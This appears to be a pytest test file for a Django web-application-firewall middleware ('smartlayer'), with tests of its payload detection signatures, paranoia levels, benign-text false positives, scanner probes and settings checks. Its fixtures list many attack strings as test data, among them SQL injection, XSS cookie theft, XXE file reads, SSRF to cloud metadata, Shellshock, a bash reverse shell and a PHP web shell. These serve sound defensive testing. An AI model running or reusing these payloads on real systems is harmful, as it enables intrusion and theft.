@@ -1,0 +1,300 @@
+"""Tests of the payload families: one case per signature, where it applies, paranoia levels, scanners' probes."""
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+
+from smartlayer.detectors.payload import SIGNATURES, scan_parts, scan_request, scan_text
+
+BLOCK = 3
+FIXTURES = Path(__file__).parent / "fixtures" / "scanner_probes.json"
+
+
+def names(result) -> set[str]:
+    return {hit.split("@", 1)[0] for hit in result.hits}
+
+
+def scan_at(where: str, text: str):
+    """Scan ``text`` as a client would send it in one part of a request."""
+    if where == "path":
+        return scan_parts(path=quote(text, safe="/%;:@&=+$,~!*'()?#[]"))
+    if where == "header":
+        return scan_parts(headers={"User-Agent": text})
+    if where == "body":
+        return scan_parts(body=text.encode(), content_type="text/plain")
+    return scan_parts(query_string="q=" + quote(text, safe="%"))
+
+
+# (where, text, signature): each signature not exercised by tests/test_payload.py's FAMILY_CASES
+CASES = [
+    ("query", "test' AND 8705=9360 AND 'rbaE'='rbaE", "sqli_string_compare"),
+    ("query", "1)) AND 3142=3142 AND ((5=5", "sqli_closed_number"),
+    ("query", "-7412\") as qngt where 2041=2041 union all select 2041--", "sqli_where_tautology"),
+    ("query", "-6041')) or make_set(9835=1367,1367)", "sqli_function_condition"),
+    ("query", " OR 1=1", "sqli_leading_boolean"),
+    ("query", "test ORDER BY 3771#", "sqli_order_probe"),
+    ("query", "test/**/ORdeR/**/bY/**/6993#", "sqli_order_probe"),
+    ("query", "1 rlike sleep(5)#", "sqli_time_delay_injected"),
+    ("query", "1; exec master..xp_cmdshell 'ping 10.0.0.1'", "sqli_exec_procedure"),
+    ("query", "select @@version", "sqli_select_probe"),
+    ("query", "1 and extractvalue(1,concat(0x7e,version()))", "sqli_error_based"),
+    ("query", "1 and (select 1 from(select count(*),concat(0x71,(select user()),floor(rand(0)*2))x from "
+              "information_schema.tables group by x)a)", "sqli_error_based"),
+    ("query", "1 and 1=(select count(*) from sysusers)", "sqli_subquery"),
+    ("query", "char(65)||char(66)", "sqli_char_concat"),
+    ("query", "admin'--", "sqli_quote_comment_end"),
+    ("query", "1 or 2>1", "sqli_numeric_suffix"),
+    ("query", "<a href=\"javascript:alert(1)\">", "xss_js_uri_attribute"),
+    ("query", "<img src=x alert(1)>", "xss_tag_with_sink"),
+    ("query", "<iframe src=//evil.example>", "xss_frame_source"),
+    ("query", "'+document.cookie+'", "xss_cookie_theft"),
+    ("query", "\";alert('xss');//", "xss_js_breakout"),
+    ("query", "+ADw-script+AD4-alert(1)", "xss_utf7"),
+    ("query", "<div style=\"width:expression(alert(1))\">", "xss_css_expression"),
+    ("query", "alert(1)", "xss_probe_value"),
+    ("query", "<style>@import'http://evil.example/x.css';</style>", "xss_style_script"),
+    ("query", "setTimeout(location.search.slice(1));", "xss_dom_source"),
+    ("query", "{{7*7}}", "ssti_arithmetic"),
+    ("query", "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti_object_internals"),
+    ("query", "${\"calc.exe\".execute()}", "ssti_method_call"),
+    ("query", "{{ config }}", "ssti_expression"),
+    ("body", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "xxe_external_entity"),
+    ("body", "<!DOCTYPE foo [<!ENTITY a \"aaaa\">]><foo>&a;</foo>", "xxe_internal_subset"),
+    ("body", "<!ENTITY a \"aaaa\">", "xxe_entity_declaration"),
+    ("body", "<![CDATA[<]]>script<![CDATA[>]]>alert(1)", "xml_script_smuggling"),
+    ("query", "<!--#exec cmd=\"ls /\"-->", "ssi_directive"),
+    ("query", "<esi:include src=\"http://evil.example/\"/>", "esi_directive"),
+    ("path", "/@fs/etc/passwd", "traversal_in_path"),
+    ("query", "..%c0%2e/..%c0%2e/etc/passwd", "lfi_obfuscated_file"),
+    ("query", "file:///etc/passwd", "lfi_file_uri"),
+    ("query", "..;/..;/WEB-INF/web.xml", "traversal_repeated"),
+    ("query", "../../../config.php", "traversal_to_file"),
+    ("query", "gopher://127.0.0.1:6379/_info", "rfi_dangerous_scheme"),
+    ("query", "jar:http://evil.example/x.jar!/", "rfi_jar_url"),
+    ("path", "/index.php?page=http://evil.example/shell.txt?", "rfi_url_trailing_question"),
+    ("path", "/index.php?include_path=http://evil.example/x", "rfi_include_param"),
+    ("query", "http://127.0.0.1:8080/admin", "ssrf_internal_host"),
+    ("query", "http://169.254.169.254/latest/meta-data/", "ssrf_metadata_path"),
+    ("query", "http://192.168.1.1/admin", "ssrf_private_url"),
+    ("query", "//evil.example/", "open_redirect"),
+    ("header", "() { :;}; /bin/bash -c 'id'", "shell_shellshock"),
+    ("query", "| type C:\\Windows\\win.ini", "shell_windows_path_command"),
+    ("query", "type %SYSTEMROOT%\\repair\\SAM", "shell_windows_variable"),
+    ("query", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell_reverse_shell"),
+    ("query", "x;CMD=$'id';$CMD", "shell_variable_exec"),
+    ("body", "then run ; whoami to see", "shell_probe_text"),
+    ("query", "<?php system($_GET['c']); ?>", "php_code"),
+    ("query", "php://filter/convert.base64-encode/resource=index.php", "php_wrapper"),
+    ("query", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "php_serialised_object"),
+    ("query", "phpinfo()", "php_function_call"),
+    ("query", "${T(java.lang.Runtime).getRuntime().exec('id')}", "java_class"),
+    ("query", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "java_serialised_object"),
+    ("query", "%0d%0aSet-Cookie:%20session=evil", "crlf_header_injection"),
+    ("query", "first%0d%0asecond", "crlf_encoded_newline"),
+    ("query", "<meta http-equiv=\"Set-Cookie\" content=\"sid=evil\">", "session_fixation"),
+    ("path", "/index.php.bak", "restricted_extension"),
+    ("path", "/config.inc", "restricted_extension"),
+    ("path", "/index.php~", "restricted_extension"),
+    ("path", "/.git/config", "restricted_file"),
+    ("path", "/shell.php%00.jpg", "null_byte"),
+    ("body", "a\x00b", "null_byte_body"),
+    ("header", "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner_user_agent"),
+    ("query", "=PHPE9568F34-D428-11d2-A769-00AA001ACF42", "scanner_probe_value"),
+    ("query", "nessus-probe", "scanner_name_value"),
+    ("query", "*)(uid=*))(|(uid=*", "ldap_injection"),
+    ("query", "admin*)((|userPassword=*)", "ldap_injection"),
+    ("query", "username[$ne]=x", "nosql_operator"),
+    ("query", "{\"username\": {\"$ne\": null}}", "nosql_operator"),
+    ("query", "' && this.password.match(/.*/)//", "nosql_js_injection"),
+    ("query", "%2e%2e%2fsecret", "encoded_dot"),
+]
+#: Signatures that run only from paranoia level 2 or 3: (level, where, text, signature).
+PARANOID_CASES = [
+    (2, "query", "select name from people", "sqli_select_from"),
+    (2, "query", "5 --", "sqli_comment_terminator"),
+    (3, "query", "0x41424344454647", "sqli_hex_literal"),
+    (2, "query", "'><b>", "xss_tag_breakout"),
+    (2, "query", "a; echo hi", "shell_probe_word"),
+    (2, "query", "*)(cn=x", "ldap_filter"),
+    (2, "path", "/cart;jsessionid=0123456789abcdef", "session_id_in_url"),
+    (2, "query", "/etc/passwd", "lfi_system_path"),
+    (2, "query", "https://elsewhere.example/", "redirect_absolute_url"),
+    (2, "query", "<b>bold</b>", "xss_markup_value"),
+    (2, "query", "{{ user.name }}", "ssti_template_value"),
+]
+
+
+@pytest.mark.parametrize(("where", "text", "signature"), CASES)
+def test_signature_fires_where_it_applies(where, text, signature):
+    assert signature in names(scan_at(where, text))
+
+
+@pytest.mark.parametrize(("level", "where", "text", "signature"), PARANOID_CASES)
+def test_paranoid_signatures_wait_for_their_level(sl, level, where, text, signature):
+    sl(VALIDATOR_PARANOIA=level - 1)
+    assert signature not in names(scan_at(where, text))
+    sl(VALIDATOR_PARANOIA=level)
+    assert signature in names(scan_at(where, text))
+
+
+def test_every_new_signature_is_exercised():
+    from tests.test_payload import FAMILY_CASES
+
+    exercised = {n for _, n in FAMILY_CASES} | {c[-1] for c in CASES} | {c[-1] for c in PARANOID_CASES}
+    assert {s.name for s in SIGNATURES} <= exercised
+
+
+@pytest.mark.parametrize("value", [0, 4, "2", None, 1.5, True])
+def test_a_bad_paranoia_level_reads_as_the_default(sl, value):
+    sl(VALIDATOR_PARANOIA=value)
+    assert "sqli_select_from" not in names(scan_text("select name from people"))
+    assert scan_text("' OR 1=1--").score >= BLOCK
+
+
+# ── scope: a signature means something in one place ───────────────────────
+
+def test_restricted_extensions_count_in_the_path_only():
+    assert scan_parts(path="/backup/site.bak").score >= BLOCK
+    assert scan_parts(query_string="q=notes.bak").score == 0
+    assert scan_parts(path="/static/app.js").score == 0
+
+
+def test_a_scanner_name_counts_in_headers_only():
+    assert "scanner_user_agent" in names(scan_parts(headers={"User-Agent": "Mozilla/5.00 (Nikto/2.1.6)"}))
+    assert scan_parts(query_string="q=how+to+use+sqlmap").score < BLOCK
+
+
+def test_a_decoded_line_break_is_a_header_only_outside_the_body():
+    body = b"comment=Dear+team%2C%0D%0AThanks%3A+all"
+    assert scan_parts(body=body, content_type="application/x-www-form-urlencoded").score == 0
+    assert "crlf_header_injection" in names(scan_parts(query_string="next=%2F%0D%0ALocation:%20http://evil"))
+
+
+def test_the_path_is_scanned_by_scan_request(rf):
+    result = scan_request(rf.get("/@fs/etc/passwd"))
+    assert result.score >= BLOCK and any(hit.endswith("@path") for hit in result.hits)
+    assert scan_request(rf.get("/blog/2024/select-the-best-union-drop-leaf-table/")).score == 0
+
+
+def test_every_hit_names_family_level_location_and_excerpt():
+    result = scan_parts(query_string="id=1%20UNION%20SELECT%20password%20FROM%20users", path="/x.bak")
+    assert [hit.label for hit in result.details] == result.hits
+    union = next(hit for hit in result.details if hit.signature == "sqli_union_select")
+    assert (union.family, union.paranoia, union.location) == ("sqli", 1, "query")
+    assert "union select" in union.excerpt
+    assert next(hit for hit in result.details if hit.location == "path").family == "protocol"
+
+
+# ── what real benign text looks like ───────────────────────────────────────
+
+BENIGN = [
+    "O'Reilly", "select the best", "drop leaf table", "Please select one from the list and order by price",
+    "It's 5 o'clock; time for tea", "Rock & roll; id est the music", "see ../README for details",
+    "The file lives in /etc/nginx/ on most systems", "{{ user.name }}", "${price} per month",
+    "https://example.com/page?ref=home", "a=1&b=2", "C:\\Users\\me\\Documents", "Tom & Jerry (1940)",
+    "if (a == 'x' or b == 'y') { return; }", "email me at jane@example.com",
+    "Order by 3pm for next-day delivery", "union of 3 sets", "I'd like 2 or 3 -- if possible",
+]
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_benign_text_is_not_blocked(text):
+    assert scan_text(text).score < BLOCK
+    assert scan_parts(body=f"comment={quote(text)}".encode(),
+                      content_type="application/x-www-form-urlencoded").score < BLOCK
+
+
+# ── scanners' characteristic probes, blocked from the first request ────────
+
+def _probes():
+    data = json.loads(FIXTURES.read_text(encoding="utf-8"))
+    return [(tool, probe) for tool, probes in data.items() for probe in probes]
+
+
+@pytest.mark.parametrize(("tool", "probe"), _probes(), ids=lambda p: p if isinstance(p, str) and len(p) < 12 else None)
+def test_scanner_probes_are_blocked_from_the_first_request(rf, tool, probe):
+    request = rf.generic(probe.get("method", "GET"), probe["path"] + ("?" + probe["query"] if probe.get("query") else ""),
+                         data=probe.get("body", "").encode(), content_type=probe.get("content_type", "text/plain"),
+                         HTTP_USER_AGENT=probe.get("user_agent", "Mozilla/5.0"))
+    result = scan_request(request)
+    assert result.score >= BLOCK, (tool, probe, result.hits)
+
+
+# ── settings checks ────────────────────────────────────────────────────────
+
+def test_a_pattern_the_engine_cannot_run_is_refused_by_manage_py_check_e030(settings):
+    import io
+
+    from django.core.management import call_command
+    from django.core.management.base import SystemCheckError
+
+    from smartlayer.checks.patterns import check_extra_pattern_engine, check_extra_pattern_safety
+
+    pattern = r"(?<!\w)admin(?=\d)"
+    settings.SMART_MIDDLEWARE = {"VALIDATOR_EXTRA_PATTERNS": [
+        {"name": "fine", "pattern": r"\bzork\d{2}", "weight": 3},
+        {"name": "lookaround", "pattern": pattern, "weight": 3},
+    ]}
+    [message] = check_extra_pattern_engine()
+    assert message.id == "smartlayer.E030"
+    assert "VALIDATOR_EXTRA_PATTERNS[1] (lookaround)" in message.msg and repr(pattern) in message.msg
+    assert check_extra_pattern_safety() == []          # one id per problem
+    with pytest.raises(SystemCheckError, match="smartlayer.E030"):
+        call_command("check", stdout=io.StringIO(), stderr=io.StringIO())
+    # the supported one runs, in the same pass; the refused one never does
+    assert names(scan_text("zork42 admin7")) == {"fine"}
+
+
+def test_user_patterns_are_matched_case_insensitively(sl):
+    sl(VALIDATOR_EXTRA_PATTERNS=[{"name": "shout", "pattern": "EVIL[0-9]", "weight": 3}])
+    assert "shout" in names(scan_text("an evil7 thing"))
+
+
+@pytest.mark.parametrize("value", [0, 4, "2", 1.5, True, None])
+def test_a_bad_paranoia_level_is_reported_e031(settings, value):
+    from smartlayer.checks.patterns import check_paranoia
+
+    settings.SMART_MIDDLEWARE = {"VALIDATOR_PARANOIA": value}
+    assert [m.id for m in check_paranoia()] == ["smartlayer.E031"]
+    settings.SMART_MIDDLEWARE = {"VALIDATOR_PARANOIA": 2}
+    assert check_paranoia() == []
+
+
+@pytest.mark.parametrize("path", [
+    "/static/scripts/app.js", "/api/credentials", "/downloads/release-1.2.tar.gz", "/~jane/", "/blog/what-is-etc/",
+    "/docs/select-from-where/", "/media/2024/report.pdf", "/sitemap.xml", "/robots.txt", "/api/v1/orders/42/items",
+])
+def test_ordinary_paths_score_zero(path):
+    assert scan_parts(path=path).score == 0
+
+
+def test_a_form_of_many_attacking_fields_is_rescanned_once_per_location(monkeypatch):
+    """After a hit, thousands of fields are matched again per location, not one pass per field."""
+    from smartlayer.detectors.payload import scan as payload
+
+    calls = []
+    original = payload._Scan.match
+
+    def counting(self, text, location):
+        calls.append(location)
+        return original(self, text, location)
+
+    monkeypatch.setattr(payload._Scan, "match", counting)
+    body = "&".join(f"f{i}=%27+or+1%3D1--" for i in range(2000)).encode()
+    result = scan_parts(body=body, content_type="application/x-www-form-urlencoded")
+    assert result.score >= BLOCK and len(calls) <= 2
+    calls.clear()
+    few = "&".join(f"f{i}=%27+or+1%3D1--" for i in range(3)).encode()
+    assert scan_parts(body=few, content_type="application/x-www-form-urlencoded").score >= BLOCK
+    assert len(calls) == 3                         # a few fields: each alone, as before
+
+
+@pytest.mark.parametrize(("query", "signature"), [
+    ("q=id+", "shell_probe"), ("q=+id", "shell_probe"), ("q=1+UNION+SELECT+password+FROM+users", "sqli_union_select"),
+    ("q=test+ORDER+BY+3%23", "sqli_order_probe"), ("q=a+%27+or+1%3D1--", "sqli_tautology"),
+])
+def test_a_value_whose_only_escape_is_plus_reads_as_the_decoders_read_it(query, signature):
+    assert signature in names(scan_parts(query_string=query))
